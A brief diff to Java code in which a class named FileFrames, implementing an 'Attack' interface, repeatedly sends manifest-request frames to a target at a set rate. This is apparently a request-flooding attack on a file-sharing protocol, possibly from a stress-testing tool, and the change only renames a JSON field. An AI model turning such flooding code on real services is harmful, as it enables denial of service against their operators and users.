@@ -63,7 +63,7 @@ record FileFrames(int people) implements Attack {
         var pages = new FrameBeat(PAGES_PER_SECOND);
         while (session.isOpen()) {
             for (int i = pages.due(); i > 0; i--) {
-                session.send(FrameType.MANIFEST_REQUEST, "{\"offer\":\"" + target.offer() + "\",\"from\":0}");
+                session.send(FrameType.MANIFEST_REQUEST, "{\"offer\":\"" + target.offer() + "\",\"page\":0}");
             }
             Thread.sleep(STEP);
         }
